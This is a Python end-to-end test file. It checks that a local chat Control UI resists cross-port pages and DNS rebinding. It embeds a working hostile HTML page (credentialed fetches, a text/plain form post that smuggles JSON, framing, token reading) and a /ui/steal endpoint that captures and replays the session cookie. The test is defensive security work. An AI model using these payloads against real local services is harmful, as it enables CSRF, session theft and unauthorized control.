"""Hostile pages against the Control UI in Chromium (SPEC §16.2–16.3), each with its twin:

* a page served by another port of 127.0.0.1 (the same *site*: the browser sends it the
  ``chela_ui`` cookie too) tries to read and drive the UI's API with credentials, to frame
  the UI and to read its token: it gets nothing, and the cookie it collected is worth
  nothing without the token; the UI's own page, in the same browser, does all of it;
* DNS rebinding: a hostile name that resolves to 127.0.0.1 (Chromium's
  ``--host-resolver-rules``) gets 403 ``forbidden_host``, for the page and the API; the
  loopback names get the UI.
"""

from __future__ import annotations

import json

import aiohttp
from aiohttp import web

from tests.e2e.browser.kit import EVIL_HOST, SESSION_LOOP, csrf, expect, login
from tests.e2e.ui_client import mint_code, ui_daemon
from tests.fakes.llm import text
from tests.fakes.web import serve

pytestmark = SESSION_LOOP

# The hostile page: every way a page of another origin has to reach the UI with the browser's
# credentials; what script there could see of each answer goes to window.__results.
HOSTILE = """<!doctype html><html><body>
<iframe id="frame" src="__UI__/ui/"></iframe>
<form id="form" method="post" enctype="text/plain" target="sink"
  action="__UI__/ui/api/sessions/__KEY__/messages"><input name='{"text":"form post","client_msg_id":"form1","x":"' value='"}'></form>
<iframe name="sink"></iframe>
<script>
const UI = "__UI__";
const msg = (id) => JSON.stringify({text: "hostile " + id, client_msg_id: id});
const path = "/ui/api/sessions/__KEY__/messages";
const attempts = {
  read: () => fetch(UI + "/ui/api/bootstrap", {credentials: "include"}),
  read_opaque: () => fetch(UI + "/ui/api/sessions", {credentials: "include", mode: "no-cors"}),
  send_simple: () => fetch(UI + path, {method: "POST", credentials: "include", mode: "no-cors",
    headers: {"Content-Type": "text/plain"}, body: msg("simple1")}),
  send_json: () => fetch(UI + path, {method: "POST", credentials: "include",
    headers: {"Content-Type": "application/json", "X-Chela-CSRF": "guessed"}, body: msg("json1")}),
  events: () => fetch(UI + "/ui/api/events", {method: "POST", credentials: "include",
    mode: "no-cors", body: "{}"}),
  steal: () => fetch("/ui/steal", {credentials: "include"}),
};
(async () => {
  const out = {token: localStorage.getItem("chela_ui_csrf")};
  for (const [name, go] of Object.entries(attempts)) {
    try {
      const r = await go();
      let body = "";
      try { body = await r.text(); } catch (e) { body = ""; }
      out[name] = {status: r.status, type: r.type, body};
    } catch (e) {
      out[name] = {error: String(e)};
    }
  }
  document.getElementById("form").submit();
  window.__results = out;
})();
</script></body></html>"""


async def hostile_server(ui_base: str, key: str):
    """An aiohttp app on another port of 127.0.0.1: the hostile page, and /ui/steal which
    records the Cookie header the browser sends it."""
    seen: list[str] = []
    page = HOSTILE.replace("__UI__", ui_base).replace("__KEY__", key)

    async def index(request: web.Request) -> web.Response:
        return web.Response(text=page, content_type="text/html")

    async def steal(request: web.Request) -> web.Response:
        seen.append(request.headers.get("Cookie", ""))
        return web.Response(text="ok")

    app = web.Application()
    app.router.add_get("/", index)
    app.router.add_get("/ui/steal", steal)
    runner, port = await serve(app)
    return runner, f"http://127.0.0.1:{port}", seen


async def test_a_page_on_another_local_port_gets_nothing(tmp_path, llm, page):
    llm.script(text("answer for the owner"))
    async with ui_daemon(tmp_path, llm) as ui:
        key = f"agent:{ui.cfg.agent.id}:main"
        await login(page, ui.base, mint_code(ui.cfg))
        token = await csrf(page)
        runner, other, seen = await hostile_server(ui.base, key.replace(":", "%3A"))
        try:
            hostile = await page.context.new_page()
            await hostile.goto(other + "/")
            results = await (await hostile.wait_for_function("window.__results")).json_value()
            await hostile.wait_for_timeout(300)  # the form post lands (and is refused)
            frame = hostile.frame_locator("#frame")
            assert await frame.get_by_role("navigation", name="Pages").count() == 0
        finally:
            await runner.cleanup()
        assert results["token"] is None  # localStorage is the UI's origin's alone
        for name in ("read", "read_opaque", "send_simple", "send_json", "events"):
            got = results[name]
            assert "error" in got or (got["status"] == 0 and got["body"] == ""), (name, got)
        assert llm.requests == []  # nothing it sent started a turn
        # the browser did hand the cookie to the other port (cookies ignore ports) ...
        stolen = [c for c in seen if "chela_ui=" in c]
        assert stolen, seen
        cookie = stolen[0].split("chela_ui=", 1)[1].split(";")[0]
        # ... and alone, even replayed with the UI's own Origin, it opens nothing
        async with aiohttp.ClientSession(cookie_jar=aiohttp.DummyCookieJar()) as s:
            headers = {"Cookie": f"chela_ui={cookie}", "Origin": ui.base}
            async with s.get(f"{ui.base}/ui/api/bootstrap", headers=headers) as r:
                assert (r.status, (await r.json())["error"]["code"]) == (403, "csrf")
            async with s.post(
                f"{ui.base}/ui/api/sessions/{key}/messages",
                headers=headers,
                json={"text": "replayed", "client_msg_id": "replay1"},
            ) as r:
                assert (r.status, (await r.json())["error"]["code"]) == (403, "csrf")
            # the twin: cookie and token together are the session
            twin = {**headers, "X-Chela-CSRF": token}
            async with s.get(f"{ui.base}/ui/api/bootstrap", headers=twin) as r:
                assert r.status == 200 and (await r.json())["main_session"] == key
        assert llm.requests == []
        # the twin in the browser: the UI's own page sends, and the model answers
        await page.get_by_role("textbox", name="Message").fill("hello from the owner")
        await page.get_by_role("button", name="Send").click()
        log = page.get_by_role("log", name="Conversation")
        await expect(log.get_by_role("article", name="Assistant message")).to_contain_text(
            "answer for the owner"
        )
        await page.reload()
        await expect(log.get_by_role("article", name="Your message")).to_have_count(1)
        assert "hostile" not in await log.inner_text() and "form post" not in await log.inner_text()
        assert len(llm.requests) == 1


async def test_dns_rebinding_gets_forbidden_host(tmp_path, llm, page):
    async with ui_daemon(tmp_path, llm) as ui:
        code = mint_code(ui.cfg)
        evil = f"http://{EVIL_HOST}:{ui.port}"
        for path in ("/ui/", "/ui/js/app.js", "/ui/api/bootstrap"):
            r = await page.goto(evil + path)
            assert r is not None and r.status == 403, path
            assert json.loads(await r.text())["error"]["code"] == "forbidden_host"
        r = await page.goto(f"{evil}/ui/#login={code}")  # a link with a code gets no page
        assert r is not None and r.status == 403
        # the twin: the loopback names get the UI, and that code still logs in
        r = await page.goto(f"http://localhost:{ui.port}/ui/")
        assert r is not None and r.status == 200
        await login(page, f"http://localhost:{ui.port}", code)
        await expect(page.get_by_role("heading", level=1, name="Chat")).to_be_visible()
